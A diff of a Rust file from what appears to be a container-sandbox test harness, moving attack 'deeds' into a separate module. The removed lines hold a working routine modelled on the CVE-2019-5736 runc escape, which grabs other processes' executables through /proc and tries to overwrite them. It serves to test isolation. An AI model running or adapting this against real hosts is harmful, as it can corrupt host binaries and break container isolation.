@@ -4,17 +4,16 @@
 
 #![allow(clippy::disallowed_methods, reason = "sleeping, and ending from anywhere, are deeds that tests ask for")]
 
-use std::fs::{self, File, OpenOptions};
+use std::fs::{self, OpenOptions};
 use std::io::{Error, ErrorKind, Read, Result, Write};
-use std::os::fd::AsRawFd;
 use std::os::unix::fs::{FileTypeExt, MetadataExt, OpenOptionsExt};
 use std::os::unix::process::CommandExt;
 use std::process::Command;
-use std::time::{Duration, Instant};
+use std::time::Duration;
 
 use serde_json::{Value, json};
 
-use crate::{agent, kernel, load, report, say};
+use crate::{agent, attacks, kernel, load, report, say};
 
 /// Does the deed; the answer is the exit code.
 pub fn perform(deed: &str, args: &[String]) -> Result<u8> {
@@ -51,7 +50,10 @@ pub fn perform(deed: &str, args: &[String]) -> Result<u8> {
         "relay" => load::relay()?,
         "agent" => agent::serve(word(args, 0)?, parse(args, 1)?)?,
         "hook" => hook(word(args, 0)?, word(args, 1)?)?,
-        "overwrite-executables" => overwrite_executables(parse(args, 0)?)?,
+        "overwrite-executables" => attacks::overwrite_executables(parse(args, 0)?)?,
+        "exchange" => attacks::exchange(word(args, 0)?, word(args, 1)?, parse(args, 2)?)?,
+        "raid" => attacks::raid(word(args, 0)?, parse(args, 1)?)?,
+        "trace-newcomers" => attacks::trace_newcomers(parse(args, 0)?)?,
         "set-window" => kernel::set_window(0, parse(args, 0)?, parse(args, 1)?)?,
         "session" => {
             kernel::own_session()?;
@@ -208,32 +210,4 @@ fn hook(name: &str, log: &str) -> Result<()> {
     let line = json!({"hook": name, "state": state, "program": program, "seen": report::report(Value::Null)});
     // One write call, so that lines of hooks never mix.
     OpenOptions::new().append(true).create(true).open(log)?.write_all(format!("{line}\n").as_bytes())
-}
-
-/// For `seconds`: holds every executable that other processes run, and tries to write to it once it is no longer busy.
-/// This is how CVE-2019-5736 reached the host's runtime.
-fn overwrite_executables(seconds: f64) -> Result<()> {
-    say(&"ready")?;
-    let end = Instant::now() + Duration::from_secs_f64(seconds);
-    let own = fs::metadata("/proc/self/exe")?.ino();
-    let (mut held, mut written) = (Vec::<File>::new(), 0);
-    while Instant::now() < end {
-        for entry in fs::read_dir("/proc")?.flatten() {
-            hold_executable(&entry.path().join("exe"), own, &mut held);
-        }
-        for file in &held {
-            let again = OpenOptions::new().write(true).open(format!("/proc/self/fd/{}", file.as_raw_fd()));
-            written += u32::from(again.is_ok_and(|mut file| file.write_all(b"overwritten").is_ok()));
-        }
-    }
-    say(&json!({"held": held.len(), "written": written}))
-}
-
-fn hold_executable(path: &std::path::Path, own: u64, held: &mut Vec<File>) {
-    let Ok(file) = OpenOptions::new().read(true).custom_flags(libc::O_PATH).open(path) else { return };
-    let Ok(inode) = file.metadata().map(|metadata| metadata.ino()) else { return };
-    let known = held.iter().any(|file| file.metadata().is_ok_and(|metadata| metadata.ino() == inode));
-    if inode != own && !known {
-        held.push(file);
-    }
 }
